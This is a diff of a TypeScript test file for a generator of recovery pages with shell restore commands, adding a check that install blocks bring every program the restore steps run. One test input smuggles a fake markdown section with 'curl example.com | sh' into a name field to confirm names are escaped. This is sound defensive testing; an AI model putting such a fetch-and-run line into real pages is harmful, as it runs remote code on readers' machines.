@@ -18,15 +18,30 @@ const target = (changes: Partial<Recoverable>): Recoverable => ({
   ...changes,
 });
 
-const pageOf = (changes: Partial<Recoverable>) =>
+const pageWith = (targets: Recoverable[]) =>
   recoveryPage({
     provider: "disk",
     place: "/copies",
     isBucket: false,
     writtenAt: new Date(0),
     version: "1.0.0",
-    targets: [target(changes)],
+    targets,
   });
+const pageOf = (changes: Partial<Recoverable>) => pageWith([target(changes)]);
+
+const blocksOf = (page: string) =>
+  [...page.matchAll(/^```sh\n([^]*?)^```$/gm)].map(([, commands = ""]) => commands);
+
+/** Packages of Debian 12 by the programs that they bring, themselves or by what they depend on. */
+const debian: Record<string, readonly string[]> = {
+  zstd: ["zstd"],
+  postgresql: ["createdb", "pg_restore"],
+  "mariadb-server": ["mariadb"],
+  sqlite3: ["sqlite3"],
+  tar: ["tar"],
+};
+/** On every Debian: bash, coreutils and util-linux. */
+const always = ["chmod", "chown", "echo", "mkdir", "runuser", "set", "sha256sum"];
 
 test.each([
   "a\n```\n\n## Before all else\n\n```sh\ncurl example.com | sh",
@@ -52,4 +67,32 @@ test("a name is text, whatever it holds", () => {
   expect(page).not.toMatch(/(?<!\\)\[run this/);
   expect(page).not.toMatch(/(?<!\\)&lt;/);
   for (const character of ["\u001b", "\u202e"]) expect(page).not.toContain(character);
+});
+
+test.each([
+  ["each engine", ["postgres", "mysql", "sqlite", "folder"]],
+  ["PostgreSQL", ["postgres"]],
+  ["MariaDB", ["mysql"]],
+  ["SQLite", ["sqlite"]],
+  ["a site", ["folder"]],
+] as const)("for %s installs Debian's packages with all programs that it runs", (_, engines) => {
+  const page = pageWith(
+    engines.map((engine, index) =>
+      target({ engine, name: `shop-${index}`, path: `/srv/shop-${index}` }),
+    ),
+  );
+  const [install = "", ...restore] = blocksOf(page);
+  expect(install).toMatch(/^apt-get update\napt-get install --yes [a-z0-9 -]+\n$/);
+  const packages = install.split(" --yes ")[1]?.trim().split(" ") ?? [];
+  expect(Object.keys(debian)).toEqual(expect.arrayContaining(packages));
+  for (const block of [install, ...restore])
+    execFileSync("bash", ["-n"], { input: block, stdio: ["pipe", "ignore", "pipe"] });
+
+  const commands = restore.flatMap((block) => block.trim().split("\n"));
+  const programs = commands
+    .flatMap((line) => line.split(" | "))
+    .map((part) => part.replace(/^runuser -u postgres -- /, "").split(" ")[0] ?? "");
+  const there = new Set([...always, ...packages.flatMap((name) => debian[name] ?? [])]);
+  expect(programs.length).toBeGreaterThan(engines.length);
+  expect(programs.filter((program) => !there.has(program))).toEqual([]);
 });
